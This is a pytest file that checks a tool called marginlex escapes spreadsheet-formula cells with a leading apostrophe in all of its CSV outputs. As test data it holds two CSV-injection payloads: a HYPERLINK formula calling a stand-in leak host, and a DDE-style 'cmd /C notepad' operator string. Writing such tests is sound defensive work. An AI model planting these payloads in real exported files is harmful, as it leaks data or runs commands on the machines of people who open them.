"""CSV injection: an id, a name or an operator that a spreadsheet would read as a formula is
written with a leading apostrophe in every CSV marginlex writes for people and programs
(``engine/kernels/csv_cells.py``); numbers, negative amounts included, are written as they are.
"""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pytest
from cli_books import renamed_demo
from fastapi.testclient import TestClient
from typer.testing import CliRunner

from marginlex.cli import app
from marginlex.console.app import create_app
from marginlex.console.security import LOOPBACK

runner = CliRunner()
FORMULA = '=HYPERLINK("http://x.example/?leak","FOX")'
"""The account id A08_FOX_FUT becomes: a formula that would open a link."""
OPERATOR = "-2+3+cmd|' /C notepad'!A0"
NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?")


def _cells(text: str) -> list[str]:
    return [c for row in csv.reader(io.StringIO(text)) for c in row]


def _assert_no_formula(text: str) -> list[str]:
    """Every cell of a CSV text: none starts a formula unless it is a number."""
    cells = _cells(text)
    risky = [c for c in cells if c.startswith(("=", "+", "-", "@")) and not NUMBER.fullmatch(c)]
    assert risky == []
    return cells


@pytest.fixture(scope="module")
def book(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return renamed_demo(tmp_path_factory.mktemp("csv") / "book", {"A08_FOX_FUT": FORMULA})


def test_run_format_csv_writes_the_formula_id_as_text(book: Path) -> None:
    result = runner.invoke(app, ["run", str(book), "-r", "cftc", "--format", "csv"])
    assert result.exit_code == 0, result.output
    cells = _assert_no_formula(result.stdout)
    assert "'" + FORMULA in cells  # the account_ids cell of its margin set


def test_run_out_csv_writes_every_frame_without_a_formula(book: Path, tmp_path: Path) -> None:
    out = tmp_path / "out"
    argv = ["run", str(book), "-r", "cftc", "--out", str(out), "--out-format", "csv"]
    result = runner.invoke(app, argv)
    assert result.exit_code == 0, result.output
    found = []
    for path in sorted((out / "cftc").glob("*.csv")):
        found += _assert_no_formula(path.read_text(encoding="utf-8"))
    assert "'" + FORMULA in found
    assert any(NUMBER.fullmatch(c) and c.startswith("-") for c in found)  # P&L stays numeric


def test_ledger_csvs_and_the_console_download_write_it_as_text(book: Path, tmp_path: Path) -> None:
    ledger = str(tmp_path / "ledger.db")
    argv = ["run", str(book), "--ledger", ledger, "--operator", OPERATOR]
    assert runner.invoke(app, argv).exit_code == 0
    listed = runner.invoke(app, ["ledger", "--ledger", ledger, "--format", "csv"])
    assert listed.exit_code == 0, listed.output
    assert "'" + FORMULA in _assert_no_formula(listed.stdout)
    runs = runner.invoke(app, ["ledger", "runs", "--ledger", ledger, "--format", "csv"])
    assert runs.exit_code == 0, runs.output
    assert "'" + OPERATOR in _assert_no_formula(runs.stdout)
    with TestClient(create_app(ledger), base_url=LOOPBACK) as client:
        download = client.get("/decisions.csv")
        assert download.status_code == 200
        assert "'" + FORMULA in _assert_no_formula(download.text)
